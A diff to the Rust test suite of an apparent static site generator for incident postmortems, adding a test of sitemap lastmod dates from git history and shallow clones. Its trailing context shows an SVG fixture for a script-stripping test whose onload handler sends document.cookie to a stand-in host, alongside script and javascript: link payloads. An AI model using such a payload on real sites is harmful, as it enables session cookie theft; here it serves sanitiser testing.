@@ -3736,6 +3736,87 @@ fn a_postmortem_nothing_else_dates_is_dated_by_the_day_git_first_recorded_it() {
 }
 
 #[test]
+fn the_sitemap_gives_each_incident_the_later_of_its_date_and_the_day_git_last_recorded_a_change() {
+    let site = Site::with(&[
+        (
+            "content/edited.md",
+            "---\ndate: 2021-03-01\n---\n\n# Edited later\n\nThe cache was cold.\n",
+        ),
+        (
+            "content/written-early.md",
+            "---\ndate: 2024-05-01\n---\n\n# Dated after its commit\n\nThe queue stalled.\n",
+        ),
+    ]);
+    let at = "2021-06-15T10:00:00+00:00";
+    git(&site.root, &["init", "-q"], at);
+    git(&site.root, &["add", "."], at);
+    git(&site.root, &["commit", "-q", "-m", "first"], at);
+    std::fs::write(
+        site.root.join("content/edited.md"),
+        "---\ndate: 2021-03-01\n---\n\n# Edited later\n\nThe cache was cold, and empty.\n",
+    )
+    .unwrap();
+    git(
+        &site.root,
+        &["commit", "-q", "-am", "edit"],
+        "2023-01-02T10:00:00+00:00",
+    );
+    // Not committed yet: its own date.
+    write_files(
+        &site.root,
+        &[(
+            "content/new.md",
+            "---\ndate: 2022-02-02\n---\n\n# Not committed\n\nThe disk filled.\n",
+        )],
+    );
+    let lastmod = |out: &Path, id: &str| {
+        let sitemap = std::fs::read_to_string(out.join("sitemap.xml")).unwrap();
+        let line = sitemap
+            .lines()
+            .find(|l| l.contains(&format!("incidents/{id}/<")))
+            .unwrap_or_else(|| panic!("no {id} in {sitemap}"))
+            .to_string();
+        line.split("<lastmod>")
+            .nth(1)
+            .and_then(|rest| rest.split("</lastmod>").next())
+            .unwrap_or_else(|| panic!("no lastmod in {line}"))
+            .to_string()
+    };
+    site.build_ok();
+    assert_eq!(lastmod(&site.out, "edited"), "2023-01-02");
+    assert_eq!(lastmod(&site.out, "written-early"), "2024-05-01");
+    assert_eq!(lastmod(&site.out, "new"), "2022-02-02");
+    // The incident keeps the date it gives.
+    assert_eq!(site.incident("edited")["date"], "2021-03-01");
+
+    // A shallow clone's history is cut off: each incident's own date, and no warning when
+    // every incident has one.
+    let shallow = tempfile::tempdir().unwrap();
+    let clone = shallow.path().join("clone");
+    git(
+        shallow.path(),
+        &[
+            "clone",
+            "-q",
+            "--depth",
+            "1",
+            &format!("file://{}", site.root.display()),
+            "clone",
+        ],
+        "2024-01-01T00:00:00+00:00",
+    );
+    let out = shallow.path().join("public");
+    let built = build(&clone, &out);
+    assert!(built.status.success(), "{}", stderr(&built));
+    assert!(
+        !stderr(&built).contains("shallow-history"),
+        "{}",
+        stderr(&built)
+    );
+    assert_eq!(lastmod(&out, "edited"), "2021-03-01");
+}
+
+#[test]
 fn an_svg_or_html_attachment_is_published_without_its_scripts_and_one_without_any_byte_for_byte() {
     let chart = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"   width='40' height=\"20\">\n  <a href=\"https://example.org/\"><rect width=\"40\" height=\"20\" fill=\"#09c\"/></a>\n</svg>\n";
     let diagram = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\" onload=\"fetch('//evil.example/'+document.cookie)\">\n  <script>alert(document.domain)</script>\n  <rect width=\"40\" height=\"20\" fill=\"#09c\"/>\n  <a href=\"javascript:alert(1)\"><text y=\"15\">map</text></a>\n</svg>\n";
